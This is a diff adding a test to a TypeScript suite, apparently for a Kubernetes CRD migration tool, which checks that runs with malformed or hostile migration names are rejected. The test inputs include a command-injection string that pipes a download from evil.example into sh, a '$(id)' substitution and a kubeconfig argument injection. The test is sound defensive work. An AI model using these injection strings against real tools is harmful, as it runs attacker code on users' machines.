@@ -84,3 +84,20 @@ test.each(["", "one\nmore", "x) kubectl/v1.37 (system:admin", "é", "x".repeat(1
   expect(rewriteRecordSchema.parse(sampleRecord({ runs: [first, sampleRun({ id }), last] })).runs).toEqual([first, last]);
   expect(rewriteRecordSchema.safeParse(sampleRecord({ proof: sampleProof(sampleCrd(), { runId: id }) })).success).toBe(false);
 });
+
+// Without MIGRATION_NAME (rewrite-record.ts) the name gets into a command to copy, which then does what the name says.
+test.each(["m; curl evil.example | sh", "$(id)", "--kubeconfig=/tmp/evil", "a\nb", "", "a".repeat(254)])(
+  "a run with a migration called %j is none of crdshift's",
+  (migration) => {
+    const runOf = (id: string, name: string) =>
+      sampleRun({
+        id,
+        delegation: {
+          ...{ migration: name, phase: "running", message: "", left: null, startedAt: null, endedAt: null },
+          ...{ storedVersionsBefore: [], putBack: [] },
+        },
+      });
+    const own = runOf("own", "crdshift-own-2");
+    expect(rewriteRecordSchema.parse(sampleRecord({ runs: [own, runOf("forged", migration)] })).runs).toEqual([own]);
+  },
+);
